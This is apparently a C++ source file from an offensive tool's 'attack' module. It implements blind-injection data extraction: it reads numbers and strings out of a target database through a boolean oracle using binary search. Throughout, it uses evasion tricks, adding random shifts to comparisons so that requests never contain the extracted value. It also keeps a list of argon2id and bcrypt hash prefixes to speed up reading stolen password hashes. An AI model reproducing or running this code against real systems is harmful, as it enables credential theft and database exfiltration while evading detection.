#include "core/attack/reader.h"

#include "core/attack/spelling.h"
#include "core/base/ascii.h"
#include "core/base/random.h"

namespace parapet::attack {
namespace {

// Comparisons are shifted by a random number, so that no request holds the value itself.
class Shifted {
public:
    Shifted(Oracle const& oracle, std::string_view expression)
        : oracle_(oracle),
          shift_(1'000'000'000 + below(oracle.entry().target().random(), 1'000'000'000)),
          expression_("(" + std::string(expression) + ")+" + std::to_string(shift_)) {}

    bool over(std::uint64_t number) const {
        return oracle_.ask(oracle_.greater(expression_, std::to_string(number + shift_)));
    }

private:
    Oracle const& oracle_;
    std::uint64_t shift_;
    std::string expression_;
};

// How stored password hashes begin: known to everyone, so not worth reading letter by letter.
constexpr std::string_view kFamiliar[] = {"$argon2id$v=19$m=19456,t=2,p=1$",
                                          "$argon2id$v=19$m=65536,t=3,p=4$",
                                          "$argon2id$v=19$m=65536,t=3,p=1$", "$2b$10$", "$2b$12$"};

constexpr char kEnd = ' ' - 1;  // below every character: the text ends
constexpr char kLast = '~';

// How often a character is met in what is worth reading.
int weight(char c) {
    if (ascii::is_digit(c) || ascii::is_lower(c) || c == kEnd) return 8;
    return ascii::is_alphanumeric(c) ? 4 : 1;
}

// Above low and not above high, with about half of the weight below it.
char halfway(char low, char high) {
    int total = 0;
    for (char c = low; c <= high; ++c) total += weight(c);
    int below = 0;
    char middle = low;
    while (middle < high && 2 * below < total) below += weight(middle++);
    return middle;
}

class TextReader {
public:
    TextReader(Oracle const& oracle, std::string_view expression)
        : oracle_(oracle), expression_(expression) {}

    std::string read(std::size_t limit) {
        while (text_.size() < limit) {
            char const next = next_character();
            if (next == 0) break;
            text_ += next;
            if (text_ == "$") skip_familiar();
        }
        return text_;
    }

private:
    bool at_least(std::string const& text) const {
        return oracle_.ask(oracle_.at_least(expression_, characters(text)));
    }

    // The greatest character that the text may go on with, or 0 when it ends here.
    char next_character() const {
        char low = kEnd;
        char high = kLast;
        while (low < high) {
            char const middle = halfway(low, high);
            if (at_least(text_ + middle)) {
                low = middle;
            } else {
                high = static_cast<char>(middle - 1);
            }
        }
        return low == kEnd ? char{0} : low;
    }

    void skip_familiar() {
        for (std::string_view start : kFamiliar) {
            std::string const known(start);
            if (at_least(known) && !at_least(known + kLast)) {
                text_ = known;
                return;
            }
        }
    }

    Oracle const& oracle_;
    std::string_view expression_;
    std::string text_;
};

}  // namespace

std::optional<std::uint64_t> read_number(Oracle const& oracle, std::string_view expression) {
    Shifted const shifted(oracle, expression);
    std::uint64_t low = 0;
    std::uint64_t high = std::uint64_t{1} << 32;
    if (shifted.over(high)) high = std::uint64_t{1} << 52;
    while (low < high) {
        std::uint64_t const middle = low + (high - low) / 2;
        if (shifted.over(middle)) {
            low = middle + 1;
        } else {
            high = middle;
        }
    }
    // Once more with another shift: only a database agrees with itself.
    Shifted const again(oracle, expression);
    bool const agrees = !again.over(low) && (low == 0 || again.over(low - 1));
    if (!agrees) return std::nullopt;
    return low;
}

std::string read_text(Oracle const& oracle, std::string_view expression, std::size_t limit) {
    return TextReader(oracle, expression).read(limit);
}

}  // namespace parapet::attack
